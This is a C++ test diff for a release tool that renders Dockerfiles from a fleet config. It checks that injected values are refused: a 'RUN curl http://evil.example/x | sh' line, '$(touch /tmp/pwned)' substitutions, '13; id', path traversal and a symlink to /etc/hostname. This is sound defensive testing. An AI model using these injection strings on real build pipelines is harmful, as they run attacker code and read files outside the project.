@@ -368,4 +368,76 @@ TEST_F(BrokenFleet, MatrixModeKeepsTheMatrixsOwnContainerImage) {
   }
 }
 
+TEST_F(BrokenFleet, AValueThatWouldAddAnInstructionAPathOrAShellWordIsRefusedAndNothingIsWritten) {
+  // The fleet is config a pull request can change: its values are data in the Dockerfile, the
+  // folder under --out and the docker command lines, never an instruction, a path or a command.
+  struct Hostile {
+    const char* from;
+    std::string to;
+    const char* says;
+  };
+  for (const auto& c :
+       {Hostile{"driver = \"560.35.05\"", "driver = \"560.35.05\\nRUN curl http://evil.example/x | sh\\n#\"",
+                "cuda driver '560.35.05\nRUN curl"},
+        Hostile{"cudnn = \"9.15.1.9\"", "cudnn = \"$(touch /tmp/pwned)\"",
+                "cuda cudnn '$(touch /tmp/pwned)'"},
+        Hostile{"base = \"quay.io/pypa/manylinux_2_28_x86_64\"",
+                "base = \"quay.io/pypa/manylinux_2_28_x86_64 AS base\\nRUN echo injected\\nFROM scratch\"",
+                "is not an image reference"},
+        Hostile{"variant = \"cpu\"", "variant = \"../../../../escaped\"", "is not a tag prefix"},
+        Hostile{"variant = \"cpu\"", "variant = \"cpu$(touch${IFS}/tmp/PWNED)\"", "is not a tag prefix"},
+        Hostile{"name = \"ghcr.io/minitensor/manylinux_2_28-builder\"", "name = \"ghcr.io/Mini Tensor\"",
+                "is not a repository name"},
+        Hostile{"gcc_toolset = \"13\"", "gcc_toolset = \"13; id\"", "gcc_toolset '13; id'"},
+        Hostile{"accelerators = [\"cpu\"]", "accelerators = [\"cpu\"]\nfiles = [\"/etc/hostname\"]",
+                "copies '/etc/hostname': files are named relative to the fleet file's folder"},
+        Hostile{"accelerators = [\"cpu\"]", "accelerators = [\"cpu\"]\nfiles = [\"images/../../x\"]",
+                "without '..'"}}) {
+    SCOPED_TRACE(c.to);
+    for (const std::string& command : {"images render --out " + tmp("out"), std::string("images plan")}) {
+      const auto result = run(command, c.from, c.to);
+      EXPECT_EQ(result.exit_code, 2) << result.out << result.err;
+      EXPECT_EQ(result.out, "");
+      EXPECT_NE(result.err.find(c.says), std::string::npos) << result.err;
+    }
+    EXPECT_FALSE(fs::exists(m_dir / "out"));
+  }
+  // A link in the repository to a file outside it is refused too.
+  fs::create_symlink("/etc/hostname", m_dir / "images/hostname");
+  const auto linked = run("images render --out " + tmp("out"), "accelerators = [\"cpu\"]",
+                          "accelerators = [\"cpu\"]\nfiles = [\"images/hostname\"]");
+  EXPECT_EQ(linked.exit_code, 2) << linked.err;
+  EXPECT_NE(linked.err.find("which leads to /etc/hostname, outside"), std::string::npos) << linked.err;
+  EXPECT_FALSE(fs::exists(m_dir / "out"));
+}
+
+TEST_F(BrokenFleet, TheSameDefinitionInAnotherFileKeepsItsTags) {
+  // Tags are content addresses: moving the fleet to another file changes no image.
+  const auto before = run("images plan --json --channel nightly", "variant = \"cpu\"", "variant = \"cpu\"");
+  ASSERT_EQ(before.exit_code, 0) << before.err;
+  fs::rename(m_dir / "fleet.toml", m_dir / "builder-fleet.toml");
+  std::string config = slurp(m_dir / "relforge.toml");
+  config.replace(config.find("include = \"fleet.toml\""), 22, "include = \"builder-fleet.toml\"");
+  std::ofstream(m_dir / "relforge.toml", std::ios::trunc) << config;
+  const auto after = relforge("images plan --json --channel nightly --config " + tmp("relforge.toml"));
+  ASSERT_EQ(after.exit_code, 0) << after.err;
+  EXPECT_EQ(Json::parse(after.out), Json::parse(before.out));
+}
+
+TEST_F(FleetCli, ALockTheRegistryCouldNotCompleteReplacesNoLock) {
+  LoopbackRegistry registry(404);
+  const std::string lock_command =
+      "images lock --config " + config("minitensor") + " --channel nightly --state-dir " + tmp("state");
+  ASSERT_EQ(relforge(lock_command + " --check-registry " + registry.m_url).exit_code, 0);
+  const std::string good = slurp(m_dir / "state/images.lock.json");
+  for (const int status : {500, 401}) {
+    LoopbackRegistry failing(status);
+    const auto failed = relforge(lock_command + " --check-registry " + failing.m_url);
+    EXPECT_EQ(failed.exit_code, status == 401 ? 8 : 7) << failed.err;
+    EXPECT_EQ(failed.out, "");
+    EXPECT_NE(failed.err.find("nothing was written"), std::string::npos) << failed.err;
+    EXPECT_EQ(slurp(m_dir / "state/images.lock.json"), good);
+  }
+}
+
 }  // namespace
